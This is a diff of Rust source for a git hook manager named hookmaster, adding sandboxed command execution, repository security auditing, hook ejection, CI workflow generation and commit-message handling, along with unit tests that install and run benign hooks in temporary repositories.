+    /// with `{dir}` replaced by the directory relative to the repository root
+    fn execute_fan_out(
+        &self,
+        run: &HookRun,
+        entry: &HookEntry,
+        command: &str,
+        pattern: &str,
+    ) -> Result<(), HookError> {
+        let (hook_name, root) = (run.hook_name, run.root);
+        let mut dirs = fanout::expand_dir_glob(root, pattern)?;
+        if entry.only_changed {
+            let changed = run.files.files(root)?;
+            dirs = fanout::dirs_with_changes(&dirs, &changed);
+        }
+
+        if dirs.is_empty() {
+            println!(
+                "Command '{}' in hook '{hook_name}': no directories to run in",
+                entry.name
+            );
+            return Ok(());
+        }
+
+        let run_in = |dir: &PathBuf| -> bool {
+            let display = dir.display().to_string();
+            let command = placeholder::replace(command, "dir", &display);
+            match self.run_shell(run, entry, &command, &root.join(dir)) {
+                Ok(status) if status.success() => {
+                    run.finished(entry, 0, CommandStatus::Passed);
+                    true
+                }
+                Ok(status) => {
+                    let code = status.code().unwrap_or(-1);
+                    let label = format!("Command '{}' in hook '{hook_name}'", entry.name);
+                    if entry.allows_exit_code(code) {
+                        eprintln!("{label} passed with warnings in {display}, exit code: {code}");
+                        run.finished(entry, code, CommandStatus::Warning);
+                        return true;
+                    }
+                    eprintln!("{label} failed in {display} with exit code: {code}");
+                    run.finished(entry, code, CommandStatus::Failed);
+                    report_missing_program(&label, entry, &command, code);
+                    report_network_denied(&label, run);
+                    false
+                }
+                Err(e) => {
+                    eprintln!(
+                        "Failed to execute command '{}' in hook '{hook_name}' in {display}: {e}",
+                        entry.name
+                    );
+                    let label = format!("Command '{}' in hook '{hook_name}'", entry.name);
+                    report_missing_runner(&label, entry, &e);
+                    false
+                }
+            }
+        };
+
+        let failed: Vec<String> = if run.parallel {
+            thread::scope(|scope| {
+                let handles: Vec<_> = dirs
+                    .iter()
+                    .map(|dir| (dir, scope.spawn(|| run_in(dir))))
+                    .collect();
+                handles
+                    .into_iter()
+                    .filter_map(|(dir, handle)| match handle.join() {
+                        Ok(true) => None,
+                        _ => Some(dir.display().to_string()),
+                    })
+                    .collect()
+            })
+        } else {
+            // Like other sequential commands, stop at the first failure
+            dirs.iter()
+                .find(|dir| !run_in(dir))
+                .map(|dir| vec![dir.display().to_string()])
+                .unwrap_or_default()
+        };
+
+        if failed.is_empty() {
+            Ok(())
+        } else {
+            Err(HookError::FanOutFailed {
+                hook: hook_name.to_string(),
+                command: entry.name.clone(),
+                dirs: failed,
+            })
+        }
+    }
+
+    /// Run `command` of `entry` through the configured shell, or in a container
+    /// for the `docker` runner, inside the sandbox if any, killing it after
+    /// the entry's timeout. Unless the output format is raw, the command's
+    /// output is piped through the formatter.
+    fn run_shell(
+        &self,
+        run: &HookRun,
+        entry: &HookEntry,
+        command: &str,
+        cwd: &Path,
+    ) -> io::Result<ExitStatus> {
+        // Once hookmaster is stopped, the commands yet to start don't
+        if shutdown::stopped() {
+            return Err(io::Error::new(
+                io::ErrorKind::Interrupted,
+                "hookmaster was stopped by a signal",
+            ));
+        }
+        let mut shell = match (entry.runner, &entry.image) {
+            (Runner::Docker, Some(image)) => {
+                let args = docker::run_args(run.root, cwd, image, command, &docker::passed_env());
+                let args: Vec<&str> = args.iter().map(String::as_str).collect();
+                run.sandbox.command("docker", &args)
+            }
+            _ => {
+                let mut words = shell_words(run.settings, command);
+                // The hook's arguments become `$1` and so on; cmd would
+                // append them to the command instead
+                if !run.args.is_empty() && words[0] != "cmd" {
+                    words.push("hookmaster");
+                    words.extend(run.args.iter().map(String::as_str));
+                }
+                run.sandbox.command(words[0], &words[1..])
+            }
+        };
+        if let EnvPolicy::Allow(_) = &run.env {
+            shell.env_clear();
+            shell.envs(
+                std::env::vars_os()
+                    .filter(|(name, _)| name.to_str().is_some_and(|name| run.env.allows(name))),
+            );
+        }
+        shell.envs(
+            run.env_vars
+                .iter()
+                .filter(|(name, _)| run.env.allows(name))
+                .map(|(name, value)| (name, value)),
+        );
+        if let Some(path) = run.path.as_ref().filter(|_| run.env.allows("PATH")) {
+            shell.env("PATH", path);
+        }
+        // Each command reads the whole file, as they would read the same stdin
+        // if run one by one
+        if let Some(path) = &self.stdin_file {
+            shell.stdin(Stdio::from(fs::File::open(path)?));
+        } else if run.input.is_some() {
+            shell.stdin(Stdio::piped());
+        }
+        // Raw output printed line by line needs nothing from hookmaster, and
+        // the command keeps writing to the terminal itself
+        let formatted = run.format != OutputFormat::Raw;
+        if formatted || self.output_buffering != OutputBuffering::Line {
+            shell.stdout(Stdio::piped()).stderr(Stdio::piped());
+        }
+        // Headless, timeouts and the signals hookmaster gets then reach
+        // whatever the command starts, not just the shell
+        process::own_process_group(&mut shell);
+        // Kept open until the command is spawned, which moves itself into the cgroup
+        let _procs = run
+            .cgroup
+            .as_ref()
+            .and_then(|cgroup| match cgroup.add_on_spawn(&mut shell) {
+                Ok(procs) => Some(procs),
+                Err(err) => {
+                    eprintln!(
+                        "Warning: failed to apply resource limits to '{}': {err}",
+                        entry.name
+                    );
+                    None
+                }
+            });
+        let mut child = shell.current_dir(cwd).spawn()?;
+        if let (Some(input), Some(mut stdin)) = (run.input, child.stdin.take()) {
+            // From a thread, so a command that doesn't read it all can't hold up the hook
+            let input = input.to_string();
+            thread::spawn(move || {
+                let _ = stdin.write_all(input.as_bytes());
+            });
+        }
+
+        let formatter =
+            |stream| formatted.then(|| run.format.formatter(run.hook_name, &entry.name, stream));
+        let mut forwarders = Vec::new();
+        if let Some(stdout) = child.stdout.take() {
+            forwarders.push(formatter::forward_buffered(
+                stdout,
+                formatter(Stream::Stdout),
+                Stream::Stdout,
+                self.output_buffering,
+            ));
+        }
+        if let Some(stderr) = child.stderr.take() {
+            forwarders.push(formatter::forward_buffered(
+                stderr,
+                formatter(Stream::Stderr),
+                Stream::Stderr,
+                self.output_buffering,
+            ));
+        }
+
+        // After a timeout, background processes of the killed command may
+        // still hold the pipes open, so the forwarders are left to finish on their own
+        let timeout = entry.timeout.map(Duration::from_secs);
+        let kill = TimeoutKill {
+            signal: self.timeout_signal,
+            grace: Duration::from_secs(run.settings.timeout_kill_grace()),
+        };
+        let running = shutdown::Running::start(child.id(), kill.grace);
+        let status = process::wait_with_timeout(&mut child, timeout, kill);
+        drop(running);
+        let status = status?;
+        for forwarder in forwarders {
+            let _ = forwarder.join();
+        }
+
+        Ok(status)
+    }
+
+    /// Audit all repositories under `path`, printing the findings. Fails if
+    /// any finding is of high severity.
+    pub fn audit(&self, path: &Path) -> Result<()> {
+        let repositories = self.find_repositories(path).with_context(|| {
+            format!("Failed to find git repositories under: {}", path.display())
+        })?;
+        if repositories.is_empty() {
+            eprintln!("No git repositories found under: {}", path.display());
+            return Ok(());
+        }
+
+        let mut total = 0;
+        let mut high = 0;
+        for repo in &repositories {
+            let findings = self.audit_repo(repo)?;
+            if findings.is_empty() {
+                continue;
+            }
+
+            println!("{}:", repo.display());
+            for finding in &findings {
+                println!(
+                    "  {:<6} {}: {}",
+                    finding.severity, finding.hook, finding.description
+                );
+            }
+            total += findings.len();
+            high += findings
+                .iter()
+                .filter(|f| f.severity == AuditSeverity::High)
+                .count();
+        }
+
+        if total == 0 {
+            println!("No issues found in {} repositories", repositories.len());
+        } else {
+            println!(
+                "Found {total} issue(s) in {} repositories",
+                repositories.len()
+            );
+        }
+
+        if high > 0 {
+            return Err(anyhow::anyhow!("Found {high} high-severity issue(s)"));
+        }
+        Ok(())
+    }
+
+    /// Check the hookmaster-managed hook scripts in a repository, and the
+    /// commands configured for them, for common security issues
+    pub fn audit_repo(&self, repo: &Path) -> Result<Vec<AuditFinding>> {
+        let mut findings = Vec::new();
+
+        let hooks_dir = repo.join(".git").join("hooks");
+        if hooks_dir.is_dir() {
+            let entries = fs::read_dir(&hooks_dir).with_context(|| {
+                format!("Failed to read hooks directory: {}", hooks_dir.display())
+            })?;
+            let mut scripts = Vec::new();
+            for entry in entries {
+                let path = entry
+                    .with_context(|| "Failed to read directory entry")?
+                    .path();
+                let name = path
+                    .file_name()
+                    .unwrap_or_default()
+                    .to_string_lossy()
+                    .to_string();
+                if !path.is_file() || name.ends_with(".sample") {
+                    continue;
+                }
+                // Hooks installed by other tools may not be text
+                let Ok(content) = fs::read_to_string(&path) else {
+                    continue;
+                };
+                if content.contains("hookmaster") {
+                    scripts.push((name, content));
+                }
+            }
+            scripts.sort();
+
+            for (name, content) in scripts {
+                if !GitHook::from_filename(&name).is_current_script(&content) {
+                    findings.push(AuditFinding {
+                        hook: name.clone(),
+                        severity: AuditSeverity::Low,
+                        description: "script differs from the one hookmaster installs".to_string(),
+                    });
+                }
+                findings.extend(audit::audit_script(&name, &content));
+            }
+        }
+
+        let config = GitHooksConfig::discover(repo, None)
+            .with_context(|| format!("Failed to load configuration in {}", repo.display()))?;
+        if let Some(config) = config {
+            let mut hooks: Vec<_> = config.hooks.iter().collect();
+            hooks.sort_by_key(|(name, _)| *name);
+            for (hook_name, spec) in hooks {
+                for entry in &spec.commands {
+                    let label = if entry.name == *hook_name {
+                        hook_name.clone()
+                    } else {
+                        format!("{hook_name}/{}", entry.name)
+                    };
+                    findings.extend(audit::audit_script(&label, &entry.command));
+                }
+            }
+        }
+
+        Ok(findings)
+    }
+
+    /// Write standalone scripts running the configured commands into the
+    /// current repository's `.git/hooks`, or `hooks_path`, so the hooks work
+    /// without hookmaster. Hookmaster's own scripts for hooks that aren't
+    /// ejected are removed, since they'd fail once hookmaster is gone.
+    pub fn eject(&self, hooks_path: Option<&Path>) -> Result<()> {
+        let root = std::env::current_dir().with_context(|| "Failed to get current directory")?;
+        let hooks_dir = match hooks_path {
+            Some(path) => path.to_path_buf(),
+            None if git_hooks::is_git_repository(&root) => root.join(".git").join("hooks"),
+            None => {
+                return Err(anyhow::anyhow!(
+                    "Not a git repository; use --hooks-path to choose where to write the hooks"
+                ))
+            }
+        };
+
+        let config = self.load_config()?;
+        let Some(source) = &config.source else {
+            return Err(anyhow::anyhow!("{}", describe_source(&config)));
+        };
+        let source_path = source.path(&root);
+        let origin = Origin {
+            source: source.file_name().to_string(),
+            revision: last_commit(&root, &source_path),
+        };
+        let ejection = eject::eject(&config, &root, &origin)?;
+
+        fs::create_dir_all(&hooks_dir).with_context(|| {
+            format!("Failed to create hooks directory: {}", hooks_dir.display())
+        })?;
+        for hook in &ejection.hooks {
+            let hook_file = hooks_dir.join(&hook.hook);
+            git_hooks::write_hook_file(&hook_file, &hook.script)?;
+            println!("Wrote {}", hook_file.display());
+        }
+        for hook in GitHook::standard_hooks() {
+            let hook_file = hooks_dir.join(hook.to_filename());
+            let ejected = ejection.hooks.iter().any(|h| h.hook == hook.to_filename());
+            let managed = fs::read_to_string(&hook_file)
+                .is_ok_and(|content| hook.is_current_script(&content));
+            if !ejected && managed {
+                fs::remove_file(&hook_file).with_context(|| {
+                    format!("Failed to remove hook file: {}", hook_file.display())
+                })?;
+                println!("Removed {}", hook_file.display());
+            }
+        }
+
+        for warning in &ejection.warnings {
+            eprintln!("Warning: {warning}");
+        }
+
+        Ok(())
+    }
+
+    /// Write the CI workflow for `provider` running the hooks configured for
+    /// the current directory, or print it with `print`. An existing workflow
+    /// is only overwritten with `force`.
+    pub fn generate_ci(&self, provider: CiProvider, force: bool, print: bool) -> Result<()> {
+        let root = std::env::current_dir().with_context(|| "Failed to get current directory")?;
+        let config = self.load_config()?;
+        let Some(source) = &config.source else {
+            return Err(anyhow::anyhow!("{}", describe_source(&config)));
+        };
+        let workflow = ci::generate(&config, provider, source.file_name())?;
+        if print {
+            print!("{workflow}");
+            return Ok(());
+        }
+
+        let path = root.join(provider.workflow_path());
+        if path.exists() && !force {
+            return Err(anyhow::anyhow!(
+                "{} already exists; use --force to overwrite it",
+                provider.workflow_path().display()
+            ));
+        }
+        if let Some(dir) = path.parent() {
+            fs::create_dir_all(dir)
+                .with_context(|| format!("Failed to create {}", dir.display()))?;
+        }
+        fs::write(&path, workflow)
+            .with_context(|| format!("Failed to write {}", path.display()))?;
+        println!("Wrote {}", provider.workflow_path().display());
+        if provider == CiProvider::GitLab {
+            println!(
+                "Include it from .gitlab-ci.yml with: include: [{{ local: {} }}]",
+                provider.workflow_path().display()
+            );
+        }
+        Ok(())
+    }
+
+    /// Validate the configuration in the current directory, printing any problems
+    pub fn validate_config(&self) -> Result<()> {
+        let config = self.load_config()?;
+
+        let name = match &config.source {
+            Some(source) => source.to_string(),
+            None => "Configuration".to_string(),
+        };
+
+        let problems = config.validate();
+        if problems.is_empty() {
+            println!("{name} is valid");
+            return Ok(());
+        }
+
+        for problem in &problems {
+            eprintln!("{problem}");
+        }
+
+        Err(anyhow::anyhow!(
+            "Found {} problem(s) in {name}",
+            problems.len()
+        ))
+    }
+
+    /// Have the next configuration load fetch the configurations named by
+    /// `extends` again instead of using the copies cached in `.git`
+    pub fn refresh_remote_config(&self) -> Result<()> {
+        remote::expire_cache(Path::new("."))
+    }
+
+    /// Handle prepare-commit-msg hook, as if the commit were made on `branch`
+    /// if given. The configuration is that of the repository the commit
+    /// message file belongs to, which git may run the hook outside of.
+    pub fn prepare_commit_msg(
+        &self,
+        commit_msg_file: &Path,
+        commit_source: Option<&str>,
+        commit_sha: Option<&str>,
+        branch: Option<&str>,
+    ) -> Result<()> {
+        let config = match commit_msg::repository_of(commit_msg_file) {
+            Some(repo) => GitHooksConfig::load_in(&repo, self.config_path.as_deref())
+                .with_context(|| "Failed to load configuration")?,
+            None => self.load_config()?,
+        };
+
+        let processor = self
+            .commit_processor
+            .clone()
+            .with_commit_msg_settings(config.commit_msg.clone());
+        match branch {
+            Some(branch) => processor.process_commit_msg_file_on_branch(
+                commit_msg_file,
+                commit_source,
+                commit_sha,
+                branch,
+                &config.settings,
+            ),
+            None => processor.process_commit_msg_file(
+                commit_msg_file,
+                commit_source,
+                commit_sha,
+                &config.settings,
+            ),
+        }
+        .with_context(|| "Failed to process commit message")?;
+
+        Ok(())
+    }
+
+    /// Print per-command statistics from the timings log of the repository
+    /// in the current directory: only of `hook` if given and of the last
+    /// `since` if given, as a table or as JSON
+    pub fn print_stats(
+        &self,
+        hook: Option<&str>,
+        since: Option<Duration>,
+        json: bool,
+    ) -> Result<()> {
+        let root = std::env::current_dir().with_context(|| "Failed to get current directory")?;
+        let git_dir = root.join(".git");
+        let since = since.map(|since| {
+            SystemTime::now()
+                .checked_sub(since)
+                .and_then(|time| time.duration_since(UNIX_EPOCH).ok())
+                .map_or(0, |time| time.as_secs())
+        });
+        let stats = timings::aggregate(&timings::load(&git_dir)?, hook, since);
+        if json {
+            println!("{}", timings::to_json(&stats));
+        } else if stats.is_empty() {
+            println!(
+                "No hook timings recorded in {}",
+                timings::path(&git_dir).display()
+            );
+        } else {
+            for line in timings::table(&stats) {
+                println!("{line}");
+            }
+        }
+        Ok(())
+    }
+
+    /// Print the message `prepare-commit-msg` would start commits on
+    /// `branch_name` with, using the current configuration's settings,
+    /// without changing any file
+    pub fn preview_commit_msg(&self, branch_name: &str) -> Result<()> {
+        let config = self.load_config()?;
+        let processor = self
+            .commit_processor
+            .clone()
+            .with_commit_msg_settings(config.commit_msg.clone());
+        let message = match processor.message_for_branch(branch_name, &config.settings) {
+            Some(message) => Some(message),
+            None => processor.fallback_template(),
+        };
+        match (message, processor.explain(branch_name, &config.settings)) {
+            (Some(message), Some(rule)) => {
+                println!("{message}");
+                eprintln!("From {rule}; {MESSAGE_RULE_ORDER}");
+            }
+            _ => eprintln!(
+                "No ticket in branch name '{branch_name}'; the commit message would be left as it is"
+            ),
+        }
+        Ok(())
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::select::KeepPreselection;
+    use std::process::Command;
+    use tempfile::TempDir;
+
+    /// Reporter that records the results it receives
+    #[derive(Default)]
+    struct RecordingReporter {
+        discovered: Option<usize>,
+        searched: Vec<PathBuf>,
+        progress: Vec<String>,
+        post_install_failures: Vec<PathBuf>,
+        results: Vec<RepoResult>,
+        skipped: Vec<PathBuf>,
+        finished: usize,
+    }
+
+    impl Reporter for RecordingReporter {
+        fn discovered(&mut self, _path: &Path, count: usize) {
+            self.discovered = Some(count);
+        }
+
+        fn path_skipped(&mut self, path: &Path, _reason: &str) {
+            self.skipped.push(path.to_path_buf());
+        }
+
+        fn searching(&mut self, dir: &Path, _found: usize) {
+            self.searched.push(dir.to_path_buf());
+        }
+
+        fn install_progress(&mut self, _repo: &Path, current: usize, total: usize) {
+            self.progress.push(format!("{current}/{total}"));
+        }
+
+        fn repo_started(&mut self, _repo: &Path) {}
+
+        fn post_install_hook_failed(&mut self, repo: &Path, _error: &str) {
+            self.post_install_failures.push(repo.to_path_buf());
+        }
+
+        fn repo_finished(&mut self, result: &RepoResult) {
+            self.results.push(result.clone());
+        }
+
+        fn finished(&mut self, _results: &[RepoResult]) {
+            self.finished += 1;
+        }
+    }
+
+    #[test]
+    fn test_add_hooks_reports_each_repository() {
+        use std::fs;
+
+        let temp_dir = TempDir::new().unwrap();
+        fs::create_dir_all(temp_dir.path().join("one/.git")).unwrap();
+        fs::create_dir_all(temp_dir.path().join("nested/two/.git")).unwrap();
+
+        let hook_manager = HookManager::new();
+        let mut reporter = RecordingReporter::default();
+        hook_manager
+            .add_hooks_to_path(temp_dir.path(), &mut reporter)
+            .unwrap();
+
+        assert_eq!(reporter.discovered, Some(2));
+        assert_eq!(
+            reporter.searched,
+            vec![
+                temp_dir.path().to_path_buf(),
+                temp_dir.path().join("nested")
+            ]
+        );
+        assert_eq!(reporter.progress, vec!["1/2", "2/2"]);
+        assert_eq!(reporter.results.len(), 2);
+        for result in &reporter.results {
+            assert_eq!(result.status, RepoStatus::Installed);
+            assert!(result.hooks.contains(&"pre-commit".to_string()));
+            assert!(result.repo.join(".git/hooks/pre-commit").exists());
+        }
+    }
+
+    #[test]
+    #[cfg(unix)]
+    fn test_add_hooks_links_shared_config() {
+        let temp_dir = TempDir::new().unwrap();
+        let shared = temp_dir.path().join("central/hookmaster.toml");
+        fs::create_dir_all(shared.parent().unwrap()).unwrap();
+        fs::write(&shared, "pre-commit = \"echo one > marker\"\n").unwrap();
+        let repo = temp_dir.path().join("projects/app");
+        fs::create_dir_all(repo.join(".git")).unwrap();
+        let other = temp_dir.path().join("projects/other");
+        fs::create_dir_all(other.join(".git")).unwrap();
+        fs::write(other.join("githooks.toml"), "pre-commit = \"true\"\n").unwrap();
+
+        let hook_manager = HookManager::new().with_shared_config(Some(shared.clone()));
+        let mut reporter = RecordingReporter::default();
+        assert!(hook_manager
+            .add_hooks_to_path(&temp_dir.path().join("projects"), &mut reporter)
+            .is_err());
+        let failed: Vec<&Path> = reporter
+            .results
+            .iter()
+            .filter(|result| result.status == RepoStatus::Error)
+            .map(|result| result.repo.as_path())
+            .collect();
+        assert_eq!(failed, vec![other.as_path()]);
+
+        let run = || {
+            let config = GitHooksConfig::discover(&repo, None).unwrap().unwrap();
+            hook_manager
+                .run_configured_hook(&config, &repo, "pre-commit", &[])
+                .unwrap();
+            fs::read_to_string(repo.join("marker")).unwrap()
+        };
+        assert_eq!(run(), "one\n");
+
+        // Changes to the shared file apply without adding the hooks again
+        fs::write(&shared, "pre-commit = \"echo two > marker\"\n").unwrap();
+        assert_eq!(run(), "two\n");
+
+        // Linking again is harmless
+        hook_manager.link_config(&shared, &repo).unwrap();
+    }
+
+    #[test]
+    fn test_add_hooks_with_config() {
+        let temp_dir = TempDir::new().unwrap();
+        let projects = temp_dir.path().join("projects");
+        let repo = projects.join("app");
+        fs::create_dir_all(repo.join(".git")).unwrap();
+        let other = projects.join("other");
+        fs::create_dir_all(other.join(".git")).unwrap();
+        fs::write(other.join("hookmaster.toml"), "pre-commit = \"true\"\n").unwrap();
+
+        let config = GitHooksConfig::parse_toml(
+            "pre-commit = \"make check\"\npre-rebase = \"make rebase-check\"\n",
+        )
+        .unwrap();
+        let hook_manager = HookManager::new();
+        let mut reporter = RecordingReporter::default();
+        assert!(hook_manager
+            .add_hooks_with_config(&[projects], &config, &mut reporter)
+            .is_err());
+
+        let failed: Vec<&Path> = reporter
+            .results
+            .iter()
+            .filter(|result| result.status == RepoStatus::Error)
+            .map(|result| result.repo.as_path())
+            .collect();
+        assert_eq!(failed, vec![other.as_path()]);
+
+        let copied = GitHooksConfig::discover(&repo, None).unwrap().unwrap();
+        assert_eq!(copied.get_hook_command("pre-commit"), Some("make check"));
+        // Hooks beyond the standard ones are installed when the configuration has them
+        assert!(repo.join(".git/hooks/pre-rebase").is_file());
+        assert!(repo.join(".git/hooks/pre-commit").is_file());
+
+        // Adding again to a repository with the same configuration is harmless
+        let mut reporter = RecordingReporter::default();
+        hook_manager
+            .add_hooks_with_config(&[repo], &config, &mut reporter)
+            .unwrap();
+    }
+
+    #[test]
+    fn test_add_hooks_to_paths() {
+        let temp_dir = TempDir::new().unwrap();
+        let root = temp_dir.path();
+        for repo in ["work/api", "work/web", "other/cli"] {
+            fs::create_dir_all(root.join(repo).join(".git")).unwrap();
+        }
+        fs::create_dir_all(root.join("empty")).unwrap();
+        fs::write(root.join("notes.txt"), "").unwrap();
+
+        let paths = [
+            root.join("work"),
+            root.join("work/api"),
+            root.join("notes.txt"),
+            root.join("missing"),
+            root.join("empty"),
+            root.join("other"),
+            root.join("work"),
+        ];
+        let mut reporter = RecordingReporter::default();
+        HookManager::new()
+            .add_hooks_to_paths(&paths, &mut reporter)
+            .unwrap();
+
+        // Each repository once, however many of the paths lead to it
+        let mut installed: Vec<&Path> = reporter
+            .results
+            .iter()
+            .map(|result| result.repo.as_path())
+            .collect();
+        installed.sort();
+        assert_eq!(
+            installed,
+            vec![
+                root.join("other/cli"),
+                root.join("work/api"),
+                root.join("work/web")
+            ]
+        );
+        assert_eq!(
+            reporter.skipped,
+            vec![root.join("notes.txt"), root.join("missing")]
+        );
+        assert_eq!(reporter.finished, 1);
+    }
+
+    #[test]
+    #[cfg(unix)]
+    fn test_add_hooks_runs_post_install_hook() {
+        use std::os::unix::fs::PermissionsExt;
+
+        let temp_dir = TempDir::new().unwrap();
+        let root = temp_dir.path();
+        for (repo, config) in [
+            ("api", "pre-push = \"true\"\n"),
+            ("web", "pre-commit = \"true\"\ncommit-msg = \"true\"\n"),
+        ] {
+            fs::create_dir_all(root.join(repo).join(".git")).unwrap();
+            fs::write(root.join(repo).join("hookmaster.toml"), config).unwrap();
+        }
+        let log = root.join("calls.log");
+        // Fails for web, after writing down its arguments
+        let script = root.join("register.sh");
+        fs::write(
+            &script,
+            format!(
+                "#!/bin/sh\necho \"$1 $2\" >> {}\n[ \"$(basename \"$1\")\" != web ]\n",
+                log.display()
+            ),
+        )
+        .unwrap();
+        fs::set_permissions(&script, fs::Permissions::from_mode(0o755)).unwrap();
+
+        let mut reporter = RecordingReporter::default();
+        HookManager::new()
+            .with_only_configured(true)
+            .with_post_install_hook(Some(script))
+            .add_hooks_to_paths(&[root.join("api"), root.join("web")], &mut reporter)
+            .unwrap();
+
+        let calls = fs::read_to_string(&log).unwrap();
+        let mut calls: Vec<&str> = calls.lines().collect();
+        calls.sort();
+        assert_eq!(
+            calls,
+            vec![
+                format!("{} pre-push", root.join("api").display()),
+                format!("{} commit-msg,pre-commit", root.join("web").display()),
+            ]
+        );
+        // The failure is a warning; both repositories still got their hooks
+        assert_eq!(reporter.post_install_failures, vec![root.join("web")]);
+        assert!(reporter
+            .results
+            .iter()
+            .all(|result| result.status == RepoStatus::Installed));
+    }
+
+    #[test]
+    fn test_add_hooks_only_configured() {
+        let temp_dir = TempDir::new().unwrap();
+        let root = temp_dir.path();
+        for repo in ["api", "web", "cli"] {
+            fs::create_dir_all(root.join(repo).join(".git")).unwrap();
+        }
+        fs::write(
+            root.join("api/hookmaster.toml"),
+            "pre-push = \"cargo test\"\npre-rebase = \"true\"\nlint = \"not a git hook\"\n",
+        )
+        .unwrap();
+        fs::write(root.join("cli/githooks.toml"), "pre-commit = \"true\"\n").unwrap();
+
+        let mut reporter = RecordingReporter::default();
+        HookManager::new()
+            .with_only_configured(true)
+            .add_hooks_to_path(root, &mut reporter)
+            .unwrap();
+
+        let mut results = reporter.results.clone();
+        results.sort_by(|a, b| a.repo.cmp(&b.repo));
+        let repos: Vec<PathBuf> = results.iter().map(|result| result.repo.clone()).collect();
+        assert_eq!(
+            repos,
+            vec![root.join("api"), root.join("cli"), root.join("web")]
+        );
+        let statuses: Vec<RepoStatus> = results.iter().map(|result| result.status).collect();
+        assert_eq!(
+            statuses,
+            vec![
+                RepoStatus::Installed,
+                RepoStatus::Installed,
+                RepoStatus::Skipped
+            ]
+        );
+        assert_eq!(results[0].hooks, vec!["pre-push", "pre-rebase"]);
+        assert_eq!(results[1].hooks, vec!["pre-commit"]);
+        assert_eq!(results[2].error_message.as_deref(), Some("no config"));
+
+        assert!(!root.join("api/.git/hooks/pre-commit").exists());
+        assert!(!root.join("api/.git/hooks/lint").exists());
+        assert!(!root.join("web/.git/hooks").exists());
+    }
+
+    #[test]
+    fn test_add_hooks_with_foreign_hook_manager() {
+        let temp_dir = TempDir::new().unwrap();
+        let repo = temp_dir.path();
+        let hooks_dir = repo.join(".git/hooks");
+        fs::create_dir_all(&hooks_dir).unwrap();
+        let husky = include_str!("../tests/fixtures/hooks/husky-v4");
+        fs::write(hooks_dir.join("pre-commit"), husky).unwrap();
+        fs::write(hooks_dir.join("post-commit"), "#!/bin/sh\nmake notify\n").unwrap();
+
+        let mut reporter = RecordingReporter::default();
+        HookManager::new()
+            .with_execution_mode(ExecutionMode::DryRun)
+            .add_hooks_to_path(repo, &mut reporter)
+            .unwrap();
+        assert!(reporter.results[0].hooks.is_empty());
+
+        let manager = HookManager::new();
+        let mut reporter = RecordingReporter::default();
+        let err = manager.add_hooks_to_path(repo, &mut reporter).unwrap_err();
+        assert!(err.to_string().starts_with("Failed to install hooks"));
+        let message = reporter.results[0].error_message.clone().unwrap();
+        assert!(message.contains("pre-commit by Husky"), "{message}");
+        assert_eq!(
+            fs::read_to_string(hooks_dir.join("pre-commit")).unwrap(),
+            husky
+        );
+        assert!(!hooks_dir.join("pre-push").exists());
+
+        let chaining = HookManager::new().with_foreign_hooks(ForeignHooks::Chain);
+        chaining
+            .add_hooks_to_path(repo, &mut RecordingReporter::default())
+            .unwrap();
+        assert_eq!(
+            fs::read_to_string(hooks_dir.join("pre-commit.chained")).unwrap(),
+            husky
+        );
+        assert!(hooks_dir.join("post-commit.chained").exists());
+
+        manager.uninstall(repo).unwrap();
+        assert_eq!(
+            fs::read_to_string(hooks_dir.join("pre-commit")).unwrap(),
+            husky
+        );
+        assert!(!hooks_dir.join("pre-commit.chained").exists());
+        assert!(!hooks_dir.join("pre-push").exists());
+
+        HookManager::new()
+            .with_foreign_hooks(ForeignHooks::Replace)
+            .add_hooks_to_path(repo, &mut RecordingReporter::default())
+            .unwrap();
+        assert!(git_hooks::is_hookmaster_script(
+            &hooks_dir.join("pre-commit")
+        ));
+    }
+
+    #[test]
+    fn test_dry_run_writes_nothing() {
+        let temp_dir = TempDir::new().unwrap();
+        let repo = temp_dir.path();
+        let hooks_dir = repo.join(".git/hooks");
+        fs::create_dir_all(&hooks_dir).unwrap();
+        fs::write(hooks_dir.join("post-commit"), "#!/bin/sh\nmake notify\n").unwrap();
+        let config = GitHooksConfig::parse_toml("pre-commit = \"cargo test\"\n").unwrap();
+
+        let mut reporter = RecordingReporter::default();
+        HookManager::new()
+            .with_execution_mode(ExecutionMode::DryRun)
+            .with_foreign_hooks(ForeignHooks::Chain)
+            .add_hooks_with_config(&[repo.to_path_buf()], &config, &mut reporter)
+            .unwrap();
+        assert_eq!(reporter.results.len(), 1);
+        assert!(reporter.results[0]
+            .hooks
+            .contains(&"post-commit".to_string()));
+
+        let files: Vec<_> = fs::read_dir(&hooks_dir)
+            .unwrap()
+            .map(|entry| entry.unwrap().file_name())
+            .collect();
+        assert_eq!(files, vec!["post-commit"]);
+        assert!(!repo.join("hookmaster.toml").exists());
+        assert!(Manifest::load(repo).unwrap().is_none());
+    }
+
+    #[test]
+    fn test_add_hooks_writes_manifest() {
+        let temp_dir = TempDir::new().unwrap();
+        let repo = temp_dir.path();
+        let hooks_dir = repo.join(".git/hooks");
+        fs::create_dir_all(&hooks_dir).unwrap();
+        let husky = include_str!("../tests/fixtures/hooks/husky-v9");
+        fs::write(hooks_dir.join("pre-commit"), husky).unwrap();
+
+        let manager = HookManager::new().with_foreign_hooks(ForeignHooks::Replace);
+        manager
+            .add_hooks_to_path(repo, &mut RecordingReporter::default())
+            .unwrap();
+        let manifest = Manifest::load(repo).unwrap().unwrap();
+        let names: Vec<&str> = manifest.hooks.iter().map(|h| h.name.as_str()).collect();
+        assert_eq!(
+            names,
+            vec![
+                "pre-commit",
+                "prepare-commit-msg",
+                "commit-msg",
+                "post-commit",
+                "pre-push"
+            ]
+        );
+        let pre_commit = manifest.hook("pre-commit").unwrap();
+        assert_eq!(pre_commit.previous.as_deref(), Some("Husky"));
+        assert!(!pre_commit.chained);
+        assert!(manifest.drifted(&hooks_dir).is_empty());
+
+        // Reinstalling keeps what the first installation replaced
+        manager
+            .add_hooks_to_path(repo, &mut RecordingReporter::default())
+            .unwrap();
+        let manifest = Manifest::load(repo).unwrap().unwrap();
+        assert_eq!(
+            manifest.hook("pre-commit").unwrap().previous.as_deref(),
+            Some("Husky")
+        );
+
+        // A hand-edited script is left in place by uninstall
+        let edited = GitHook::PrePush.generate_script_content() + "echo extra\n";
+        fs::write(hooks_dir.join("pre-push"), &edited).unwrap();
+        let drifted: Vec<&str> = manifest
+            .drifted(&hooks_dir)
+            .iter()
+            .map(|hook| hook.name.as_str())
+            .collect();
+        assert_eq!(drifted, vec!["pre-push"]);
+        manager.uninstall(repo).unwrap();
+        assert_eq!(
+            fs::read_to_string(hooks_dir.join("pre-push")).unwrap(),
+            edited
+        );
